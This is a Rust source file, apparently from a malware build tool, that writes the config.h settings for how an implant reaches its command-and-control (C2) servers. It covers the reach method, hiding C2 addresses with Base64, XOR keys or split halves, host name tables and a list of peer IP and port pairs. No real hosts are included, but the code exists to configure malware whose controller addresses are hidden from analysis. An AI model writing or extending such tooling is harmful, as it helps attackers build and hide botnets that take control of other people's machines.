//! The part of `config.h` that says how a C2 is reached which is not held as others are.

use super::{
    configuration::{C2From, Configuration},
    header::Header,
    reach::{Gate, Transform},
};

/// Writes nothing for programs that hold their C2.
pub(super) fn write(header: &mut Header, configuration: &Configuration) {
    let Some(reach) = &configuration.reach else { return };
    let gate = match reach.gate {
        Gate::Direct => "REACH_DIRECT",
        Gate::Trap => "REACH_TRAP",
        Gate::Name => "REACH_NAME",
    };
    header.define("REACH_GATE", gate);
    let transform = match reach.transform {
        Transform::None => "TRANSFORM_NONE",
        Transform::Base64 => "TRANSFORM_BASE64",
        Transform::XorByte(key) => {
            header.define("MIXED_BYTE", key);
            "TRANSFORM_XOR"
        }
        Transform::XorAddress(key) => {
            header.octets("MIXED", key.into());
            "TRANSFORM_XOR"
        }
        Transform::Halves => "TRANSFORM_HALVES",
    };
    header.define("C2_TRANSFORM", transform);
    header.define("C2_COUNT", configuration.c2.hosts.len());
    if configuration.c2.from == C2From::NextTable {
        let names = (0..configuration.c2.hosts.len()).map(|index| match index {
            0 => "0, C2_HOST".to_owned(),
            _ => format!("{index}, C2_HOST_{}", index + 1),
        });
        header.list("C2_NAMES", "NAME", names);
    }
    header.define("HAS_PEERS", u8::from(!reach.peers.is_empty()));
    let peers = reach.peers.iter().map(|(address, port)| {
        let [a, b, c, d] = address.octets();
        format!("{a}, {b}, {c}, {d}, {port}")
    });
    header.list("PEERS", "PEER", peers);
}
